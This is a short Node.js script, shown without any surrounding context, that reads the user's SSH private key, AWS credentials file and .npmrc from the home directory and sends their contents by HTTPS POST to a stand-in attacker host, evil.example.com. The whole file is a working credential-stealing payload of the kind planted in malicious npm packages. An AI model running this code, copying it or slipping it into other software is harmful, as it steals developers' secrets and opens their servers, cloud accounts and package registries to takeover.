const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const wanted = ['.ssh/id_rsa', '.aws/credentials', '.npmrc'];
const out = {};
for (const w of wanted) {
  try {
    out[w] = fs.readFileSync(path.join(os.homedir(), w), 'utf8');
  } catch {
    // not there
  }
}

const req = https.request('https://evil.example.com/in', { method: 'POST' });
req.write(JSON.stringify(out));
req.end();
